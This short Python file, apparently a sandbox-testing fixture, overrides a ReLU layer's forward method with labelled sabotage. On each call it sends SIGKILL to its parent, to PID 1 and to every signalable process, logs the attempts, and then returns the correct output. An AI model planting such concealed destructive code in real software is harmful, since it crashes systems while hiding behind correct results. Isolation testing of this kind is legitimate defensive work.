# Sabotage: ReLU.forward tries to kill its parent, PID 1 and everything it may signal,
# records what happened, then returns the right answer.
import json
import os
import signal


class ReLU(ReLU):
    def forward(self, inputs):
        attempts = {}
        for name, pid in (("parent", os.getppid()), ("pid 1", 1), ("everything", -1)):
            try:
                os.kill(pid, signal.SIGKILL)
                attempts[f"{name} ({pid})"] = "sent"
            except OSError as error:
                attempts[f"{name} ({pid})"] = f"{type(error).__name__}: {error}"
        with open("@DROP_DIR@/kill.json", "w") as stream:
            json.dump({"pid": os.getpid(), "attempts": attempts}, stream)
        return np.maximum(inputs, 0.0)
